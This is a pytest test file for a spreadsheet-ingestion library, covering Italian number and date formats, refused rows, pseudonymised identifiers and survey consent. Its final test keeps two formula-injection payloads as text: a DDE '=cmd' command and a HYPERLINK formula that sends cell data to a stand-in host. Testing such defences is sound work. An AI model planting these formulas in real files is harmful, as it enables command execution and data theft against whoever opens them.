"""A delivery in, typed rows and refusals out: what a contract promises about a file."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import openpyxl
import pytest

from theory_of_change.problems import ProblemsFound

SAMPLES = Path(__file__).parent / "samples"

GRANTS = """
key: grant_id
date: decided
columns:
  - {name: grant_id, type: text}
  - {name: decided, type: date}
  - {name: amount, code: "Importo (€)", type: money, min: 0, missing: ["-"]}
  - {name: people, type: integer, min: 0, max: 500, missing: [n.d., "999"]}
  - {name: share, type: number}
  - {name: status, type: category, values: {A: Aperto, C: Chiuso}}
  - {name: renewed, type: boolean}
  - {name: note, type: text}
"""
HEADER = "grant_id;decided;Importo (€);people;share;status;renewed;note\n"


def whole_file_problems(deliver, *args, **how) -> list[str]:
    with pytest.raises(ProblemsFound) as found:
        deliver(*args, **how)
    return [problem.line("en") for problem in found.value.problems]


def test_a_register_from_an_italian_spreadsheet(deliver, rows) -> None:
    delivery = deliver(
        GRANTS,
        HEADER
        + "G1;31/05/2024;1.234,50;12;0,5;A;sì;prima volta\n"
        + "G2;2024-06-01; € 980 ;n.d.;25%;C;NO;\n"
        + "G3;1.7.24;-;999;;;;\n",
    )
    assert rows(delivery.core) == [
        (2, "G1", "2024-05-31", 1234.5, 12, 0.5, "A", True, "prima volta"),
        (3, "G2", "2024-06-01", 980.0, None, 0.25, "C", False, None),
        (4, "G3", "2024-07-01", None, None, None, None, None, None),
    ]
    assert delivery.refused == ()
    assert (delivery.kind, delivery.encoding, delivery.delimiter, delivery.rows_read) == ("csv", "utf-8", ";", 3)
    assert {name: str(dtype) for name, dtype in delivery.core.dtypes.items()} == {
        "_row": "int64", "grant_id": "str", "decided": "datetime64[s]", "amount": "Float64", "people": "Int64",
        "share": "Float64", "status": "str", "renewed": "boolean", "note": "str",
    }  # fmt: skip


def test_raw_keeps_every_row_and_column_as_text(deliver, rows) -> None:
    content = HEADER.replace("note", "note;Extra") + "G1;31/05/2024;1.234,50;12;0,5;A;sì; ciao ;x\nG2;ieri;;;;;;;\n"
    delivery = deliver(GRANTS, content)
    assert list(delivery.raw.columns) == ["_row", *HEADER.strip().split(";"), "Extra"]
    assert rows(delivery.raw) == [
        (2, "G1", "31/05/2024", "1.234,50", "12", "0,5", "A", "sì", " ciao ", "x"),
        (3, "G2", "ieri", None, None, None, None, None, None, None),
    ]
    assert delivery.unmapped == ("Extra",)
    assert [note.line("en") for note in delivery.notes] == [
        f"{delivery_path(delivery)}: note: columns the contract does not name (1): Extra. "
        "They are kept as they came; name them in the contract to use them. [delivery-unmapped]"
    ]


def delivery_path(delivery) -> str:
    return delivery.notes[0].place.file


def test_one_row_with_three_wrong_cells_is_three_refusals_and_one_refused_row(deliver, refusals) -> None:
    good = "".join(f"G{number};31/05/2024;10;1;0,5;A;sì;\n" for number in range(10_000))
    delivery = deliver(GRANTS, HEADER + good + "G;31/02/2024;dieci;501;0,5;A;sì;\n")
    assert refusals(delivery) == [
        (10_002, "decided", "impossible-date"),
        (10_002, "Importo (€)", "not-a-number"),
        (10_002, "people", "out-of-range"),
    ]
    assert (delivery.rows_read, len(delivery.core), len(delivery.raw)) == (10_001, 10_000, 10_001)


@pytest.mark.parametrize(
    ("row", "column", "rule"),
    [
        (";31/05/2024;;;;;;", "grant_id", "required"),
        ("  ;31/05/2024;;;;;;", "grant_id", "required"),
        ("G;ieri;;;;;;", "decided", "not-a-date"),
        ("G;31/02/2024;;;;;;", "decided", "impossible-date"),
        ("G;;dieci;;;;;", "Importo (€)", "not-a-number"),
        ("G;;-1;;;;;", "Importo (€)", "out-of-range"),
        ("G;;;1,5;;;;", "people", "not-an-integer"),
        ("G;;;501;;;;", "people", "out-of-range"),
        ("G;;;1.234;;;;", "people", "ambiguous-number"),
        ("G;;;;1,234;;;", "share", "ambiguous-number"),
        (f"G;;;;{'9' * 400};;;", "share", "too-large"),
        ("G;;;;;a;;", "status", "unknown-code"),
        ("G;;;;;Aperta;;", "status", "unknown-code"),
        ("G;;;;;;forse;", "renewed", "not-boolean"),
        ("G;;;;;;;;", "", "too-many-fields"),
    ],
)
def test_each_rule_refuses_its_row(deliver, refusals, row: str, column: str, rule: str) -> None:
    delivery = deliver(GRANTS, HEADER + "G0;31/05/2024;10;1;0;A;sì;va bene\n" + row + "\n")
    assert refusals(delivery) == [(3, column, rule)]
    assert delivery.core["grant_id"].tolist() == ["G0"]


def test_the_other_numbers_of_a_column_say_how_it_writes_decimals(deliver) -> None:
    delivery = deliver(GRANTS, HEADER + "G1;;1.234;;;;;\nG2;;0,5;;;;;\n")
    assert delivery.core["amount"].tolist() == [1234, 0.5]
    delivery = deliver(GRANTS, HEADER + "G1;;1.234;;;;;\nG2;;0.5;;;;;\n")
    assert delivery.core["amount"].tolist() == [1.234, 0.5]


def test_the_contract_may_say_how_decimals_and_dates_are_written(deliver, rows) -> None:
    contract = """
        decimal: ","
        date_format: mm/dd/yyyy
        columns:
          - {name: day, type: date}
          - {name: other_day, type: date, date_format: dd/mm/yyyy}
          - {name: amount, type: number}
          - {name: rate, type: number, decimal: "."}
    """
    delivery = deliver(contract, "day;other_day;amount;rate\n05/31/2024;31/05/2024;1.234;1.234\n")
    assert rows(delivery.core) == [(2, "2024-05-31", "2024-05-31", 1234, 1.234)]


def test_headers_match_but_for_capitals_accents_and_spaces(deliver) -> None:
    contract = "{columns: [{name: age, code: Età (anni), type: integer}, {name: town, type: text}]}"
    delivery = deliver(contract, "\ufeffTOWN ; eta  (ANNI)\nForlì;44\n")
    assert delivery.core[["age", "town"]].values.tolist() == [[44, "Forlì"]]


def test_all_missing_columns_are_told_at_once_with_the_nearest_name(deliver) -> None:
    content = "grant_id;decide;importo;quanti\nG1;;;\n"
    with pytest.raises(ProblemsFound) as found:
        deliver(GRANTS, content)
    assert [(one.code, one.facts["column"], one.facts.get("hint")) for one in found.value.problems] == [
        ("delivery-column-missing", "decided", "decide"),
        ("delivery-column-missing", "Importo (€)", "importo"),
        ("delivery-column-missing", "people", None),
        ("delivery-column-missing", "share", None),
        ("delivery-column-missing", "status", None),
        ("delivery-column-missing", "renewed", None),
        ("delivery-column-missing", "note", None),
    ]


def test_a_file_without_a_header_row_is_refused_without_showing_its_first_row(deliver) -> None:
    (line,) = whole_file_problems(deliver, GRANTS, "Mario Rossi;31/05/2024;12\n")
    assert line.endswith("[delivery-no-header]")
    assert "Rossi" not in line


def test_a_header_twice_is_refused_only_where_it_is_asked_for(deliver) -> None:
    contract = "{columns: [{name: vote, type: integer}]}"
    (line,) = whole_file_problems(deliver, contract, "vote;Nota;Vote;vote\n1;a;b;2\n")
    assert "the header “vote” stands 2 times in the file" in line
    assert deliver(contract, "VOTE;Vote \n1; \n").core["vote"].tolist() == [1]  # an empty leftover is no rival
    delivery = deliver(contract, "Nota;vote;nota;;\na;1;b;c;\n")
    assert list(delivery.raw.columns) == ["_row", "Nota", "vote", "nota (2)", "column 4"]
    assert delivery.unmapped == ("Nota", "nota (2)", "column 4")


def test_only_a_header_is_a_delivery_of_no_rows(deliver) -> None:
    delivery = deliver(GRANTS, HEADER)
    assert (delivery.rows_read, len(delivery.core), len(delivery.raw)) == (0, 0, 0)
    assert [note.code for note in delivery.notes] == ["delivery-no-rows"]
    assert str(delivery.core["decided"].dtype) == "datetime64[s]"


def test_a_row_too_long_is_in_neither_table_because_its_cells_may_have_moved(deliver, refusals) -> None:
    delivery = deliver("{columns: [{name: who, type: person}, {name: note, type: text}]}", "who;note\na;b;Mario\nc;d\n")
    assert refusals(delivery) == [(2, "", "too-many-fields")]
    assert (delivery.rows_read, delivery.raw["_row"].tolist(), delivery.core["_row"].tolist()) == (2, [3], [3])


def test_the_same_bytes_have_the_same_fingerprint_whatever_their_name(deliver) -> None:
    one, two = (deliver(GRANTS, HEADER, name=name) for name in ("a.csv", "b.txt"))
    assert one.sha256 == two.sha256
    assert (one.file_name, two.file_name, one.size) == ("a.csv", "b.txt", len(HEADER.encode()))


# Persons --------------------------------------------------------------------------------------------------------------

VISITS = """
columns:
  - {name: token, type: person, missing: [anonimo]}
  - {name: helper, type: person, scheme: staff}
  - {name: hours, type: number}
"""


def test_persons_are_pseudonyms_in_both_tables_one_call_a_column(deliver, rows, pseudonyms) -> None:
    content = "token;helper;hours\nK1;anna;1\n K1 ;;2\nK2;K1;due\n;anna;4\nanonimo;anna;5\n"
    delivery = deliver(VISITS, content)
    assert rows(delivery.core) == [
        (2, "person-1", "staff-1", 1), (3, "person-1", None, 2), (5, None, "staff-1", 4), (6, None, "staff-1", 5),
    ]  # fmt: skip
    assert rows(delivery.raw[["token", "helper"]]) == [
        ("person-1", "staff-1"), ("person-1", None), ("person-2", "staff-2"), (None, "staff-1"), (None, "staff-1"),
    ]  # fmt: skip
    assert pseudonyms.calls == [("person", ["K1", "K2"]), ("staff", ["anna", "K1"])]


def test_an_identifier_is_the_same_however_its_accents_are_stored(deliver) -> None:
    content = "token;helper;hours\nJosé;;1\nJose\u0301;;2\n"
    assert deliver(VISITS, content).core["token"].tolist() == ["person-1", "person-1"]


def test_no_copy_of_an_identifier_stays_in_the_raw_table(deliver) -> None:
    content = "token;TOKEN;codice;helper;hours\nK1;K1;K1;h;1\nK2;K9;K2;h;2\n"
    delivery = deliver(VISITS, content)
    everything = " ".join(delivery.raw.astype(str).to_numpy().ravel())
    assert "K" not in everything
    assert delivery.raw["codice"].tolist() == ["person-1", "person-2"]


def test_who_answered_is_a_pseudonym_whatever_other_roles_the_column_plays(deliver, pseudonyms) -> None:
    contract = "{person: token, key: token, cluster: token, questions: [{name: token, type: text}]}"
    delivery = deliver(contract, "token\nK1\n")
    assert delivery.core["token"].tolist() == delivery.raw["token"].tolist() == ["person-1"]


def test_a_persons_column_is_never_read_a_second_time_as_text(deliver) -> None:
    contract = "{columns: [{name: who, code: Chi, type: person}, {name: chi, code: Nome, type: text}]}"
    (line,) = whole_file_problems(deliver, contract, "Chi;altro\nMario;1\n")
    assert "the column “Nome” is missing" in line


def test_a_required_person_is_missed(deliver, refusals) -> None:
    contract = "{key: token, columns: [{name: token, type: person}, {name: hours, type: number}]}"
    assert refusals(deliver(contract, "token;hours\nK1;1\n;2\n")) == [(3, "token", "required")]


# Surveys --------------------------------------------------------------------------------------------------------------

RESIDENTS = """
person: {column: token, scheme: participant}
answered: submitdate
consent: {column: CONS, value: "Y"}
questions:
  - {name: trust, code: Q1, type: scale, range: [1, 5], missing: ["99"]}
  - {name: area, code: Q2, type: single, answers: {A1: Aurora, A2: Borgo Dora}, other: true}
  - {name: services, code: SERV, type: multiple, answers: {1: Biblioteca, 2: CAF}, other: true}
  - {name: first, code: PRIO, type: ranking, answers: [casa, lavoro]}
"""
ANSWERS = "token;submitdate;CONS;Q1;Q2;Q2[other];SERV[1];SERV[2];SERV[other];PRIO[1];PRIO[2]\n"


def test_answers_as_limesurvey_exports_them(deliver, rows) -> None:
    delivery = deliver(
        RESIDENTS,
        ANSWERS
        + "t1;2024-05-31 12:30:00;Y;5;A1;;Y;;;casa;lavoro\n"
        + "t2;;y;99;-oth-;Vanchiglia;;;doposcuola;lavoro;\n"
        + "t3;2024-06-01 09:00:00;Y;;;;;;;;\n",
    )
    assert list(delivery.core.columns) == [
        "_row", "token", "submitdate", "trust", "area", "area_other", "services_1", "services_2", "services_other",
        "first_1", "first_2",
    ]  # fmt: skip
    assert rows(delivery.core) == [
        (2, "participant-1", "2024-05-31", 5, "A1", None, True, False, None, "casa", "lavoro"),
        (3, "participant-2", None, None, "other", "Vanchiglia", False, False, "doposcuola", "lavoro", None),
        (4, "participant-3", "2024-06-01", None, None, None, None, None, None, None, None),
    ]
    assert "CONS" in delivery.raw.columns
    assert "CONS" not in delivery.unmapped


@pytest.mark.parametrize("shape", ["{}[{}]", "{}_{}", "{}.{}"])
def test_the_parts_of_a_question_may_be_headed_in_three_ways(deliver, shape: str) -> None:
    contract = "{questions: [{name: services, code: SERV, type: multiple, answers: [a, b], other: true}]}"
    parts = [shape.format("SERV", part) for part in ("a", "b", "other")]
    delivery = deliver(contract, ";".join(parts) + "\nx;;orto\nN;sì;\n0;;\n;;\n")
    assert delivery.core["services_a"].tolist()[:3] == [True, False, False]
    assert delivery.core["services_b"].fillna(False).tolist() == [False, True, False]
    assert delivery.core["services_other"].fillna("").tolist() == ["orto", "", ""]


def test_a_tick_that_is_no_tick_is_refused(deliver, refusals) -> None:
    contract = "{questions: [{name: services, code: SERV, type: multiple, answers: [a, b]}]}"
    assert refusals(deliver(contract, "SERV[a];SERV[b]\nY;\nforse;\n")) == [(3, "SERV[a]", "not-boolean")]


def test_a_free_answer_column_may_be_missing_but_no_other(deliver) -> None:
    contract = "{questions: [{name: area, type: single, answers: [a], other: true}]}"
    delivery = deliver(contract, "area\na\nother\n")
    assert delivery.core["area"].tolist() == ["a", "other"]
    assert delivery.core["area_other"].isna().all()


def test_nothing_is_kept_of_those_who_gave_no_consent(deliver, refusals, pseudonyms) -> None:
    delivery = deliver(
        RESIDENTS,
        ANSWERS
        + "t1;2024-05-31;Y;5;A1;;;;;;\n"
        + "segreto1;2024-05-31;N;segreto2;A1;segreto3;;;;;\n"
        + "segreto4;2024-05-31;;1;A1;;;;;;\n"
        + "segreto5;2024-05-31;Forse;1;A1;;;;;;\n",
    )
    assert refusals(delivery) == [(3, "CONS", "no-consent"), (4, "CONS", "no-consent"), (5, "CONS", "no-consent")]
    assert delivery.rows_read == 4
    assert delivery.raw["_row"].tolist() == delivery.core["_row"].tolist() == [2]
    assert "segreto" not in repr((pseudonyms.calls, delivery.raw.to_csv(), delivery.core.to_csv(), delivery.refused))


def test_where_nobody_was_asked_for_consent_the_whole_file_is_refused(deliver) -> None:
    (line,) = whole_file_problems(deliver, RESIDENTS, ANSWERS.replace("CONS", "Q9"))
    assert "the column “CONS” is missing" in line


def test_consent_may_be_a_question(deliver) -> None:
    contract = """
        consent: {column: agrees, value: "Y"}
        questions: [{name: agrees, code: Q0, type: yes_no}, {name: age, type: number}]
    """
    delivery = deliver(contract, "Q0;age\nY;40\nN;41\n")
    assert delivery.core[["agrees", "age"]].values.tolist() == [[True, 40]]


def test_one_wave_for_all_rows_and_weights_that_must_be_there(deliver, rows, refusals) -> None:
    contract = "{wave: pre, weight: w, strata: stype, fpc: fpc, questions: [{name: age, type: number}]}"
    delivery = deliver(contract, "w;stype;fpc;age\n1,5;E;100;40\n;E;100;41\n-1;E;100;42\n1;;100;43\n")
    assert rows(delivery.core) == [(2, "pre", 1.5, "E", 100, 40)]
    assert refusals(delivery) == [(3, "w", "required"), (4, "w", "out-of-range"), (5, "stype", "required")]


def test_a_weight_that_is_a_question_must_be_there_too(deliver, refusals) -> None:
    contract = "{weight: w, questions: [{name: w, type: number}, {name: age, type: number}]}"
    assert refusals(deliver(contract, "w;age\n1;40\n;41\n-1;42\n")) == [(3, "w", "required"), (4, "w", "out-of-range")]


def test_scales_are_scored_on_the_rows_that_land(deliver, rows) -> None:
    contract = """
        questions:
          - {name: lon1, type: scale, range: [1, 4]}
          - {name: lon2, type: scale, range: [1, 4]}
          - {name: lon3, type: scale, range: [1, 4]}
        scales: [{name: loneliness, items: [lon1, lon2, lon3], reverse: [lon2], range: [1, 4], at_least: 2}]
    """
    delivery = deliver(contract, "lon1;lon2;lon3\n1;2;4\n1;;4\n;;4\n1;9;4\n")
    assert rows(delivery.core[["_row", "loneliness"]]) == [(2, pytest.approx(8 / 3)), (3, 2.5), (4, None)]


# Workbooks ------------------------------------------------------------------------------------------------------------


def test_a_number_cell_is_never_taken_for_a_text_in_which_a_point_means_thousands(deliver, tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    for row in (["amount"], [1.234], ["1.234"], ["2,5"], [12]):
        workbook.active.append(row)
    workbook.save(tmp_path / "importi.xlsx")
    delivery = deliver("{columns: [{name: amount, type: number}]}", tmp_path / "importi.xlsx")
    assert delivery.core["amount"].tolist() == [1.234, 1234, 2.5, 12]


def test_dates_of_every_make_in_one_sheet(deliver, tmp_path: Path, rows) -> None:
    workbook = openpyxl.Workbook()
    for row in (["day"], [dt.date(2026, 1, 19)], [46041], ["19/01/2026"], [dt.datetime(2026, 1, 19, 23, 59)], [2026]):
        workbook.active.append(row)
    workbook.save(tmp_path / "date.xlsx")
    delivery = deliver("{columns: [{name: day, type: date}]}", tmp_path / "date.xlsx")
    assert rows(delivery.core) == [(row, "2026-01-19") for row in (2, 3, 4, 5)]
    assert [(one.row, one.rule) for one in delivery.refused] == [(6, "not-a-date")]


def test_an_everyday_sheet_of_mixed_cells(deliver, rows) -> None:
    contract = """
        columns:
          - {name: codice, type: person}
          - {name: cap, type: text}
          - {name: data, type: date}
          - {name: voto, code: Voto medio, type: number}
          - {name: spesa, code: Spesa mensile, type: money}
          - {name: quota, type: number}
          - {name: solo, code: Vive solo, type: boolean}
          - {name: figli, type: integer, missing: [n.d., "-", N/R]}
        identifying: [{column: Telefono, keep: drop}]
    """
    delivery = deliver(contract, SAMPLES / "numeri_e_date_misti.xlsx")
    assert rows(delivery.core)[:5] == [
        (2, "person-1", "00184", "2026-01-10", 2.75, 1234.5, 1, True, None),
        (3, "person-2", "00184", "2026-01-13", 3.5, 1234.5, 1, True, 2),
        (5, "person-4", "10121", "2026-01-19", 3.5, 0, 1, False, 1),
        (6, "person-5", "09124", "2026-01-22", 2.75, 1234.5, 0.25, False, 0),
        (7, "person-6", "184", "2026-01-25", 3.5, 12000, 1, True, None),
    ]
    assert [(one.row, one.column, one.rule) for one in delivery.refused] == [
        (4, "Voto medio", "error-cell"),  # #N/A
        *((row, "figli", "not-an-integer") for row in (12, 18, 19)),  # «due»
    ]


def test_an_everyday_csv_of_windows(deliver, rows) -> None:
    contract = """
        columns:
          - {name: codice, type: person}
          - {name: citta, code: Città, type: text}
          - {name: importo, code: Importo (€), type: money, missing: ["-"]}
          - {name: eta, code: Età, type: integer, missing: [n.r.]}
          - {name: data, type: date}
          - {name: utile, code: "È utile?", type: boolean}
    """
    delivery = deliver(contract, SAMPLES / "excel_italiano.csv")
    assert (delivery.encoding, delivery.rows_read, len(delivery.core)) == ("cp1252", 21, 20)
    assert rows(delivery.core)[:2] == [
        (2, "person-1", "L’Aquila", 1250, 44, "2025-04-03", True),
        (3, "person-2", "L’Aquila", 0.5, 21, "2025-07-08", True),
    ]
    assert [(one.row, one.column, one.rule) for one in delivery.refused] == [(4, "data", "impossible-date")]


def test_what_a_spreadsheet_would_run_is_kept_as_the_text_it_is(deliver) -> None:
    delivery = deliver("{columns: [{name: id, type: text}, {name: nota, code: =1+1 Nota, type: text}]}",
                       SAMPLES / "formule_nei_testi.csv")  # fmt: skip
    assert delivery.core["nota"].tolist()[:4] == [
        "=cmd|'/C calc'!A0", '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"clicca")', "+39 011 123456", "-5",
    ]  # fmt: skip
